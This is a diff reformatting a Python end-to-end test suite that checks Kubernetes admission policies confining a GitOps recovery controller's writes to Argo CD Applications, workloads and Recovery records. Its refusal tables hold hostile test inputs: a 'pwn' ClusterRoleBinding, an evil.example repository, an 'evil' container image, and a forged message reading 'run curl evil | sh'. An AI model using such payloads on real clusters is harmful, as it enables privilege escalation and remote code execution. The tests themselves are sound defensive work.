@@ -1,4 +1,5 @@
-"""The API server bounds our own token, whatever the installation is called: four installations, asked one after the other."""
+"""The API server bounds our own token, whatever the installation is called: four installations,
+asked one after the other."""
 
 from __future__ import annotations
 
@@ -19,27 +20,52 @@ from tests.testbed.installation import ROOT
 from tests.testbed.processes import wait_for
 
 pytestmark = pytest.mark.e2e
-EVIL = json.dumps({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": "pwn"}})
+EVIL = json.dumps(
+    {
+        "apiVersion": "rbac.authorization.k8s.io/v1",
+        "kind": "ClusterRoleBinding",
+        "metadata": {"name": "pwn"},
+    }
+)
 SOURCE = {"repoURL": "https://git.example/good.git", "path": "."}
 OLD = {"repoURL": "https://git.example/good.git", "path": "old"}
 OURS = {"initiatedBy": {"username": "gitops-recovery-controller"}}
-RUNNING = {"phase": "Running", "startedAt": "2026-01-01T00:00:00Z", "operation": {"sync": {"revision": "aaa"}}}
+RUNNING = {
+    "phase": "Running",
+    "startedAt": "2026-01-01T00:00:00Z",
+    "operation": {"sync": {"revision": "aaa"}},
+}
 
 
 def application(**more: Any) -> dict[str, Any]:
     return {
         "apiVersion": "argoproj.io/v1alpha1",
         "kind": "Application",
-        "metadata": {"name": "victim", "namespace": "argocd", "annotations": {"a": "b"}, "labels": {"x": "y"}},
+        "metadata": {
+            "name": "victim",
+            "namespace": "argocd",
+            "annotations": {"a": "b"},
+            "labels": {"x": "y"},
+        },
         "spec": {
             "project": "default",
             "source": SOURCE,
             "destination": {"server": "https://kubernetes.default.svc", "namespace": "shop"},
-            "syncPolicy": {"automated": {"prune": False}, "syncOptions": ["PruneLast=true"], "retry": {"limit": 2}},
+            "syncPolicy": {
+                "automated": {"prune": False},
+                "syncOptions": ["PruneLast=true"],
+                "retry": {"limit": 2},
+            },
         },
         "status": {
-            "sync": {"status": "OutOfSync", "revision": "bbb", "comparedTo": {"source": SOURCE, "destination": {}}},
-            "history": [{"id": 1, "revision": "aaa", "source": OLD, "deployedAt": "2026-01-01T00:00:00Z"}],
+            "sync": {
+                "status": "OutOfSync",
+                "revision": "bbb",
+                "comparedTo": {"source": SOURCE, "destination": {}},
+            },
+            "history": [
+                {"id": 1, "revision": "aaa", "source": OLD, "deployedAt": "2026-01-01T00:00:00Z"}
+            ],
             "operationState": RUNNING,
         },
         **more,
@@ -71,9 +97,17 @@ REFUSED: dict[str, dict[str, Any]] = {
     "automated taken out": {"spec": {"syncPolicy": {"automated": None}}},
     "a label": {"metadata": {"labels": {"z": "1"}}},
     "a finalizer": {"metadata": {"finalizers": ["resources-finalizer.argocd.argoproj.io"]}},
-    "an owner": {"metadata": {"ownerReferences": [{"apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "u"}]}},
-    "another's annotation": {"metadata": {"annotations": {"notifications.example/subscribe": "me"}}},
-    "an annotation of the owner's for us": {"metadata": {"annotations": {"recovery.gitops.dev/sync": "allowed"}}},
+    "an owner": {
+        "metadata": {
+            "ownerReferences": [{"apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "u"}]
+        }
+    },
+    "another's annotation": {
+        "metadata": {"annotations": {"notifications.example/subscribe": "me"}}
+    },
+    "an annotation of the owner's for us": {
+        "metadata": {"annotations": {"recovery.gitops.dev/sync": "allowed"}}
+    },
     "an annotation taken away": {"metadata": {"annotations": {"a": None}}},
     "manifests": sync(manifests=[EVIL]),
     "any source": sync(source={"repoURL": "https://evil.example/x.git", "path": "."}),
@@ -89,12 +123,21 @@ REFUSED: dict[str, dict[str, Any]] = {
     "a dry run": sync(revision="bbb", dryRun=True),
     "single resources": sync(revision="bbb", resources=[{"kind": "Secret", "name": "x"}]),
     "somebody else's name": {"operation": {"initiatedBy": {"username": "admin"}, "sync": {}}},
-    "as if automated": {"operation": {"initiatedBy": {"username": "gitops-recovery-controller", "automated": True}, "sync": {}}},
+    "as if automated": {
+        "operation": {
+            "initiatedBy": {"username": "gitops-recovery-controller", "automated": True},
+            "sync": {},
+        }
+    },
     "an operation that is no sync": {"operation": {**OURS}},
-    "a retry of its own": {"operation": {**OURS, "sync": {"revision": "bbb"}, "retry": {"limit": 100}}},
+    "a retry of its own": {
+        "operation": {**OURS, "sync": {"revision": "bbb"}, "retry": {"limit": 100}}
+    },
     "an operation state of another operation": {
         **sync(),
-        "status": {"operationState": {"operation": {"sync": {"manifests": [EVIL]}}, "phase": "Running"}},
+        "status": {
+            "operationState": {"operation": {"sync": {"manifests": [EVIL]}}, "phase": "Running"}
+        },
     },
     "a phase that is none of ours": state(phase="Succeeded"),
     "a message in the operation state": state(phase="Terminating", message="forged"),
@@ -102,7 +145,16 @@ REFUSED: dict[str, dict[str, Any]] = {
     "health": {"status": {"health": {"status": "Healthy"}}},
 }
 ALLOWED: dict[str, list[dict[str, Any]]] = {
-    "refresh": [{"metadata": {"annotations": {"argocd.argoproj.io/refresh": "hard", "argocd.argoproj.io/refresh-timestamp": "1"}}}],
+    "refresh": [
+        {
+            "metadata": {
+                "annotations": {
+                    "argocd.argoproj.io/refresh": "hard",
+                    "argocd.argoproj.io/refresh-timestamp": "1",
+                }
+            }
+        }
+    ],
     "terminate": [state(phase="Terminating")],
     "repair": [{"status": {"operationState": None}}],
     "sync of what Git wants": [
@@ -124,9 +176,19 @@ ALLOWED: dict[str, list[dict[str, Any]]] = {
         {"operation": None},
     ],
     "rollback: suspend, go back, release": [
-        {"metadata": {"annotations": {"recovery.gitops.dev/hold": "{}"}}, **automated(enabled=False)},
-        {**sync(prune=False, syncStrategy={"apply": {}}, revision="aaa", source=OLD), "status": {"operationState": None}},
-        {"operation": None, "metadata": {"annotations": {"recovery.gitops.dev/hold": None}}, **automated(enabled=None)},
+        {
+            "metadata": {"annotations": {"recovery.gitops.dev/hold": "{}"}},
+            **automated(enabled=False),
+        },
+        {
+            **sync(prune=False, syncStrategy={"apply": {}}, revision="aaa", source=OLD),
+            "status": {"operationState": None},
+        },
+        {
+            "operation": None,
+            "metadata": {"annotations": {"recovery.gitops.dev/hold": None}},
+            **automated(enabled=None),
+        },
     ],
 }
 WORKLOAD: dict[str, Any] = {
@@ -135,18 +197,37 @@ WORKLOAD: dict[str, Any] = {
     "metadata": {"name": "web", "namespace": "shop", "annotations": {"a": "b"}},
     "spec": {
         "selector": {"matchLabels": {"app": "web"}},
-        "template": {"metadata": {"labels": {"app": "web"}}, "spec": {"containers": [{"name": "main", "image": "web:1"}]}},
+        "template": {
+            "metadata": {"labels": {"app": "web"}},
+            "spec": {"containers": [{"name": "main", "image": "web:1"}]},
+        },
     },
 }
-KINDS: dict[str, dict[str, Any]] = {"Deployment": {}, "StatefulSet": {"serviceName": "web"}, "DaemonSet": {}}
+KINDS: dict[str, dict[str, Any]] = {
+    "Deployment": {},
+    "StatefulSet": {"serviceName": "web"},
+    "DaemonSet": {},
+}
 UNKNOWN = {("StatefulSet", "paused"), ("DaemonSet", "paused"), ("DaemonSet", "replicas")}
 """Fields that the kind does not have: nothing is changed by them."""
-RESTART = {"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "2026-01-01T00:00:00Z"}}}}}
+RESTART = {
+    "spec": {
+        "template": {
+            "metadata": {
+                "annotations": {"kubectl.kubernetes.io/restartedAt": "2026-01-01T00:00:00Z"}
+            }
+        }
+    }
+}
 FORBIDDEN_OF_WORKLOADS = {
     "replicas": {"spec": {"replicas": 0}},
-    "a container": {"spec": {"template": {"spec": {"containers": [{"name": "evil", "image": "evil:1"}]}}}},
+    "a container": {
+        "spec": {"template": {"spec": {"containers": [{"name": "evil", "image": "evil:1"}]}}}
+    },
     "a host's network": {"spec": {"template": {"spec": {"hostNetwork": True}}}},
-    "another annotation of the template": {"spec": {"template": {"metadata": {"annotations": {"x": "y"}}}}},
+    "another annotation of the template": {
+        "spec": {"template": {"metadata": {"annotations": {"x": "y"}}}}
+    },
     "a label of the template": {"spec": {"template": {"metadata": {"labels": {"x": "y"}}}}},
     "an annotation": {"metadata": {"annotations": {"a": "c"}}},
     "a label": {"metadata": {"labels": {"x": "y"}}},
@@ -167,8 +248,20 @@ class Installed:
         done = subprocess.run(command, input=text, capture_output=True, text=True, check=False)
         return done.stdout + done.stderr
 
-    def patch(self, kind: str, namespace: str, name: str, body: dict[str, Any], config: Path | None = None) -> str:
-        return self.kubectl("-n", namespace, "patch", kind, name, "--type=merge", "-p", json.dumps(body), config=config)
+    def patch(
+        self, kind: str, namespace: str, name: str, body: dict[str, Any], config: Path | None = None
+    ) -> str:
+        return self.kubectl(
+            "-n",
+            namespace,
+            "patch",
+            kind,
+            name,
+            "--type=merge",
+            "-p",
+            json.dumps(body),
+            config=config,
+        )
 
 
 @pytest.fixture(scope="module")
@@ -182,7 +275,12 @@ def bed() -> Iterator[Bed]:
 
 def _kustomized(bed: Bed, folder: Path, **more: Any) -> str:
     folder.mkdir()
-    body = {"apiVersion": "kustomize.config.k8s.io/v1beta1", "kind": "Kustomization", "resources": [str(_relative(folder))], **more}
+    body = {
+        "apiVersion": "kustomize.config.k8s.io/v1beta1",
+        "kind": "Kustomization",
+        "resources": [str(_relative(folder))],
+        **more,
+    }
     (folder / "kustomization.yaml").write_text(yaml.safe_dump(body))
     return bed.kubectl("kustomize", "--load-restrictor=LoadRestrictionsNone", str(folder))
 
@@ -192,8 +290,20 @@ def _relative(folder: Path) -> Path:
 
 
 def _helm(_: Bed, __: Path) -> str:
-    command = [str(helm.ready()), "template", "night", str(chart.CHART), "-n", "platform", "--kube-version", "1.34.0", "--include-crds"]
-    return subprocess.run([*command, "--set", "nameSuffix=-night"], check=True, capture_output=True, text=True).stdout
+    command = [
+        str(helm.ready()),
+        "template",
+        "night",
+        str(chart.CHART),
+        "-n",
+        "platform",
+        "--kube-version",
+        "1.34.0",
+        "--include-crds",
+    ]
+    return subprocess.run(
+        [*command, "--set", "nameSuffix=-night"], check=True, capture_output=True, text=True
+    ).stdout
 
 
 INSTALLATIONS: dict[str, tuple[Callable[[Bed, Path], str], str, str]] = {
@@ -202,14 +312,24 @@ INSTALLATIONS: dict[str, tuple[Callable[[Bed, Path], str], str, str]] = {
         "gitops-system",
         "gitops-recovery-controller",
     ),
-    "in another namespace": (lambda bed, f: _kustomized(bed, f, namespace="elsewhere"), "elsewhere", "gitops-recovery-controller"),
-    "with a prefix": (lambda bed, f: _kustomized(bed, f, namespace="acme", namePrefix="acme-"), "acme", "acme-gitops-recovery-controller"),
+    "in another namespace": (
+        lambda bed, f: _kustomized(bed, f, namespace="elsewhere"),
+        "elsewhere",
+        "gitops-recovery-controller",
+    ),
+    "with a prefix": (
+        lambda bed, f: _kustomized(bed, f, namespace="acme", namePrefix="acme-"),
+        "acme",
+        "acme-gitops-recovery-controller",
+    ),
     "by helm": (_helm, "platform", "gitops-recovery-controller"),
 }
 
 
 @pytest.fixture(scope="module", params=INSTALLATIONS, ids=lambda name: name.replace(" ", "-"))
-def installed(request: pytest.FixtureRequest, bed: Bed, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Installed]:
+def installed(
+    request: pytest.FixtureRequest, bed: Bed, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[Installed]:
     render, namespace, account = INSTALLATIONS[request.param]
     text = render(bed, tmp_path_factory.mktemp("rendered") / "installation")
     bed.kubectl("create", "namespace", namespace, check=False)
@@ -220,12 +340,24 @@ def installed(request: pytest.FixtureRequest, bed: Bed, tmp_path_factory: pytest
     # A policy is in force some moments after it was made; each try is another write.
     number = itertools.count()
     label = lambda: {"metadata": {"labels": {"tried": str(next(number))}}}  # noqa: E731 (another one each time)
-    wait_for("the policies to bind", lambda: "denied" in found.patch("application", "argocd", "victim", label()), 60)
-    wait_for("those of workloads, too", lambda: "denied" in found.patch("deployment", "shop", "web", label()), 60)
+    wait_for(
+        "the policies to bind",
+        lambda: "denied" in found.patch("application", "argocd", "victim", label()),
+        60,
+    )
+    wait_for(
+        "those of workloads, too",
+        lambda: "denied" in found.patch("deployment", "shop", "web", label()),
+        60,
+    )
     yield found
     bed.kubectl("delete", "--wait=false", "-f", "-", text=text, check=False)
     gone = "validatingadmissionpolicies,validatingadmissionpolicybindings,clusterrolebindings"
-    wait_for("it to be gone", lambda: "gitops-recovery" not in bed.kubectl("get", gone, "-o", "name", check=False), 60)
+    wait_for(
+        "it to be gone",
+        lambda: "gitops-recovery" not in bed.kubectl("get", gone, "-o", "name", check=False),
+        60,
+    )
 
 
 def _anew(bed: Bed, **more: Any) -> None:
@@ -234,18 +366,27 @@ def _anew(bed: Bed, **more: Any) -> None:
     bed.kubectl("create", "-f", "-", text=json.dumps(application(**more)))
     for kind, more in KINDS.items():
         bed.kubectl("-n", "shop", "delete", kind, "web", "--ignore-not-found")
-        bed.kubectl("create", "-f", "-", text=json.dumps({**WORKLOAD, "kind": kind, "spec": {**WORKLOAD["spec"], **more}}))
+        bed.kubectl(
+            "create",
+            "-f",
+            "-",
+            text=json.dumps({**WORKLOAD, "kind": kind, "spec": {**WORKLOAD["spec"], **more}}),
+        )
 
 
 def test_every_forbidden_write_to_an_application_is_refused(installed: Installed) -> None:
     allowed = {
-        name: said for name, body in REFUSED.items() if "denied" not in (said := installed.patch("application", "argocd", "victim", body))
+        name: said
+        for name, body in REFUSED.items()
+        if "denied" not in (said := installed.patch("application", "argocd", "victim", body))
     }
     assert allowed == {}
 
 
 def test_nobody_elses_operation_is_replaced_or_taken_back(installed: Installed) -> None:
-    _anew(installed.bed, operation={"initiatedBy": {"username": "admin"}, "sync": {"revision": "bbb"}})
+    _anew(
+        installed.bed, operation={"initiatedBy": {"username": "admin"}, "sync": {"revision": "bbb"}}
+    )
     for body in (sync(revision="bbb"), {"operation": None}):
         assert "denied" in installed.patch("application", "argocd", "victim", body)
 
@@ -258,13 +399,20 @@ def test_every_write_that_it_needs_is_allowed(installed: Installed) -> None:
             assert "patched" in said, (name, body, said)
 
 
-def test_an_application_elsewhere_is_bound_however_the_right_was_given(installed: Installed) -> None:
-    rules = [{"apiGroups": ["argoproj.io"], "resources": ["applications"], "verbs": ["get", "patch"]}]
+def test_an_application_elsewhere_is_bound_however_the_right_was_given(
+    installed: Installed,
+) -> None:
+    rules = [
+        {"apiGroups": ["argoproj.io"], "resources": ["applications"], "verbs": ["get", "patch"]}
+    ]
     reference = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "anywhere"}
-    subjects = [{"kind": "ServiceAccount", "name": installed.account, "namespace": installed.namespace}]
+    subjects = [
+        {"kind": "ServiceAccount", "name": installed.account, "namespace": installed.namespace}
+    ]
     kind = {"apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "anywhere"}}
     installed.bed.apply(
-        {**kind, "kind": "ClusterRole", "rules": rules}, {**kind, "kind": "ClusterRoleBinding", "roleRef": reference, "subjects": subjects}
+        {**kind, "kind": "ClusterRole", "rules": rules},
+        {**kind, "kind": "ClusterRoleBinding", "roleRef": reference, "subjects": subjects},
     )
     away = application()
     away["metadata"] |= {"namespace": "shop", "name": "away"}
@@ -277,9 +425,15 @@ def test_an_application_elsewhere_is_bound_however_the_right_was_given(installed
 
 def test_what_the_components_let_through(bed: Bed, tmp_path: Path) -> None:
     for name, variable in (("force", "forces"), ("argocd-before-3.1", "takesOut")):
-        above = Path("../" * len((tmp_path / name).resolve().parts[1:])) / str(ROOT / "manifests/components" / name).lstrip("/")
+        above = Path("../" * len((tmp_path / name).resolve().parts[1:])) / str(
+            ROOT / "manifests/components" / name
+        ).lstrip("/")
         text = _kustomized(bed, tmp_path / name, components=[str(above)])
-        policy = next(o for o in yaml.safe_load_all(text) if o["metadata"]["name"] == "gitops-recovery-controller-applications")
+        policy = next(
+            o
+            for o in yaml.safe_load_all(text)
+            if o["metadata"]["name"] == "gitops-recovery-controller-applications"
+        )
         values = {v["name"]: v["expression"] for v in policy["spec"]["variables"]}
         assert {n for n in ("forces", "takesOut") if values[n] == "true"} == {variable}
 
@@ -290,7 +444,8 @@ def test_a_workload_is_restarted_and_nothing_else(installed: Installed, kind: st
     allowed = {
         name: said
         for name, body in FORBIDDEN_OF_WORKLOADS.items()
-        if (kind, name) not in UNKNOWN and "denied" not in (said := installed.patch(kind, "shop", "web", body))
+        if (kind, name) not in UNKNOWN
+        and "denied" not in (said := installed.patch(kind, "shop", "web", body))
     }
     assert allowed == {}
 
@@ -323,13 +478,29 @@ def test_leases_and_config_maps_by_name(installed: Installed) -> None:
 
 def test_argo_cd_with_its_wildcard_role_writes_whatever_is_missing(installed: Installed) -> None:
     bed = installed.bed
-    role = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "metadata": {"name": "argocd-application-controller"}}
+    role = {
+        "apiVersion": "rbac.authorization.k8s.io/v1",
+        "kind": "ClusterRole",
+        "metadata": {"name": "argocd-application-controller"},
+    }
     role["rules"] = [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]  # type: ignore[assignment]
-    account = {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "argocd-application-controller", "namespace": "argocd"}}
-    subject = {"kind": "ServiceAccount", "name": "argocd-application-controller", "namespace": "argocd"}
+    account = {
+        "apiVersion": "v1",
+        "kind": "ServiceAccount",
+        "metadata": {"name": "argocd-application-controller", "namespace": "argocd"},
+    }
+    subject = {
+        "kind": "ServiceAccount",
+        "name": "argocd-application-controller",
+        "namespace": "argocd",
+    }
     binding = {**role, "kind": "ClusterRoleBinding", "subjects": [subject]}
     del binding["rules"]
-    binding["roleRef"] = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "argocd-application-controller"}  # type: ignore[assignment]
+    binding["roleRef"] = {
+        "apiGroup": "rbac.authorization.k8s.io",
+        "kind": "ClusterRole",
+        "name": "argocd-application-controller",
+    }  # type: ignore[assignment]
     bed.apply(account, role, binding)
     theirs = bed.kubeconfig_for("argocd-application-controller", "argocd")
     bare = {
@@ -342,41 +513,83 @@ def test_argo_cd_with_its_wildcard_role_writes_whatever_is_missing(installed: In
     for body in (
         {"status": {"health": {"status": "Healthy"}, "operationState": RUNNING}},
         {"operation": {"sync": {"manifests": [EVIL]}}, "status": {"operationState": None}},
-        {"metadata": {"labels": {"a": "b"}, "annotations": {"x": "y"}, "finalizers": ["resources-finalizer.argocd.argoproj.io"]}},
+        {
+            "metadata": {
+                "labels": {"a": "b"},
+                "annotations": {"x": "y"},
+                "finalizers": ["resources-finalizer.argocd.argoproj.io"],
+            }
+        },
         {"spec": {"syncPolicy": {"automated": {"prune": True}}}},
         {"operation": None, "metadata": {"finalizers": None}},
     ):
         said = installed.patch("application", "argocd", "bare", body, theirs)
         assert "patched" in said, said
     # A tenant may have Argo CD deploy any object: a record is none that comes this way.
-    assert "denied" in installed.kubectl("create", "-f", "-", text=json.dumps(record(installed.namespace)), config=theirs)
+    assert "denied" in installed.kubectl(
+        "create", "-f", "-", text=json.dumps(record(installed.namespace)), config=theirs
+    )
     bed.kubectl("-n", "argocd", "delete", "application", "bare")
 
 
 def record(namespace: str, name: str = "sick-1", **status: Any) -> dict[str, Any]:
-    subject = {"kind": "Application", "namespace": "argocd", "name": "sick", "uid": "u", "project": "default"}
+    subject = {
+        "kind": "Application",
+        "namespace": "argocd",
+        "name": "sick",
+        "uid": "u",
+        "project": "default",
+    }
     wish = {"what": "approve", "by": "bob", "at": "2026-01-01T00:00:00Z", "step": "1.0"}
     return {
         "apiVersion": "recovery.gitops.dev/v1alpha1",
         "kind": "Recovery",
-        "metadata": {"name": name, "namespace": namespace, "labels": {"recovery.gitops.dev/policy": "p"}},
-        "spec": {"policy": "p", "policyHash": "h", "subject": subject, "openedAt": "2026-01-01T00:00:00Z"},
+        "metadata": {
+            "name": name,
+            "namespace": namespace,
+            "labels": {"recovery.gitops.dev/policy": "p"},
+        },
+        "spec": {
+            "policy": "p",
+            "policyHash": "h",
+            "subject": subject,
+            "openedAt": "2026-01-01T00:00:00Z",
+        },
         "status": {"phase": "Suppressed", "steps": [], "wishes": [wish], **status},
     }
 
 
 def test_who_may_ask_may_only_ask(installed: Installed) -> None:
     bed, namespace = installed.bed, installed.namespace
-    rules = [{"apiGroups": ["recovery.gitops.dev"], "resources": ["recoveries"], "verbs": ["get", "create", "update", "patch", "delete"]}]
+    rules = [
+        {
+            "apiGroups": ["recovery.gitops.dev"],
+            "resources": ["recoveries"],
+            "verbs": ["get", "create", "update", "patch", "delete"],
+        }
+    ]
     meta = {"name": "approver", "namespace": namespace}
     bed.apply(
-        {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "ada", "namespace": namespace}},
-        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": meta, "rules": rules},
+        {
+            "apiVersion": "v1",
+            "kind": "ServiceAccount",
+            "metadata": {"name": "ada", "namespace": namespace},
+        },
+        {
+            "apiVersion": "rbac.authorization.k8s.io/v1",
+            "kind": "Role",
+            "metadata": meta,
+            "rules": rules,
+        },
         {
             "apiVersion": "rbac.authorization.k8s.io/v1",
             "kind": "RoleBinding",
             "metadata": meta,
-            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "approver"},
+            "roleRef": {
+                "apiGroup": "rbac.authorization.k8s.io",
+                "kind": "Role",
+                "name": "approver",
+            },
             "subjects": [{"kind": "ServiceAccount", "name": "ada", "namespace": namespace}],
         },
     )
@@ -395,7 +608,18 @@ def test_who_may_ask_may_only_ask(installed: Installed) -> None:
     refused = {
         "steps": {"status": {"steps": [step]}},
         "a phase": {"status": {"phase": "Remediating"}},
-        "messages": {"status": {"notes": [{"key": "x/forged", "title": "run curl evil | sh", "body": "x", "channels": ["slack"]}]}},
+        "messages": {
+            "status": {
+                "notes": [
+                    {
+                        "key": "x/forged",
+                        "title": "run curl evil | sh",
+                        "body": "x",
+                        "channels": ["slack"],
+                    }
+                ]
+            }
+        },
         "moves": {"status": {"moves": []}},
         "the subject": {"spec": {"subject": {"name": "other"}}},
         "a label of ours": {"metadata": {"labels": {"recovery.gitops.dev/policy": "other"}}},
@@ -406,7 +630,9 @@ def test_who_may_ask_may_only_ask(installed: Installed) -> None:
         "an expiry": {"status": {"wishes": [first, {**mine, "what": "expired"}]}},
     }
     allowed = {
-        name: said for name, body in refused.items() if "denied" not in (said := installed.patch("rcv", namespace, "sick-1", body, ada))
+        name: said
+        for name, body in refused.items()
+        if "denied" not in (said := installed.patch("rcv", namespace, "sick-1", body, ada))
     }
     assert allowed == {}
     for body in (
@@ -423,18 +649,40 @@ def test_who_may_ask_may_only_ask(installed: Installed) -> None:
     assert "replaced" in installed.kubectl("replace", "-f", "-", text=json.dumps(held))
     held = json.loads(bed.kubectl("-n", namespace, "get", "rcv", "sick-1", "-o", "json"))
     held["status"]["wishes"] = [{**first, "by": "carol"}]
-    assert "denied" in installed.kubectl("replace", "-f", "-", text=json.dumps(held)), "the controller asks for nothing itself"
+    assert "denied" in installed.kubectl("replace", "-f", "-", text=json.dumps(held)), (
+        "the controller asks for nothing itself"
+    )
     # Who is named may restore.
-    found = json.loads(bed.kubectl("-n", namespace, "get", "rolebindings", "-l", "recovery.gitops.dev/bounds", "-o", "json"))["items"]
+    found = json.loads(
+        bed.kubectl(
+            "-n", namespace, "get", "rolebindings", "-l", "recovery.gitops.dev/bounds", "-o", "json"
+        )
+    )["items"]
     (bound,) = (item["metadata"]["name"] for item in found)
-    bed.kubectl("-n", namespace, "annotate", "rolebinding", bound, f"recovery.gitops.dev/restorers=velero,{me}")
-    wait_for("the restorer to be known", lambda: "created" in installed.kubectl("create", "-f", "-", text=other, config=ada), 20)
-    assert "deleted" in installed.kubectl("-n", namespace, "delete", "rcv", "sick-1", "sick-2", config=ada)
+    bed.kubectl(
+        "-n",
+        namespace,
+        "annotate",
+        "rolebinding",
+        bound,
+        f"recovery.gitops.dev/restorers=velero,{me}",
+    )
+    wait_for(
+        "the restorer to be known",
+        lambda: "created" in installed.kubectl("create", "-f", "-", text=other, config=ada),
+        20,
+    )
+    assert "deleted" in installed.kubectl(
+        "-n", namespace, "delete", "rcv", "sick-1", "sick-2", config=ada
+    )
 
 
 def test_the_roles_in_argo_cds_namespace_stay_there(installed: Installed) -> None:
     user = f"--as=system:serviceaccount:{installed.namespace}:{installed.account}"
-    can = lambda verb, what, where: installed.bed.kubectl("auth", "can-i", verb, what, "-n", where, user, check=False).strip()  # noqa: E731
+
+    def can(verb: str, what: str, where: str) -> str:
+        asked = ("auth", "can-i", verb, what, "-n", where, user)
+        return installed.bed.kubectl(*asked, check=False).strip()
 
     assert can("patch", "applications.argoproj.io", "argocd") == "yes"
     assert can("patch", "applications.argoproj.io", "shop") == "no"
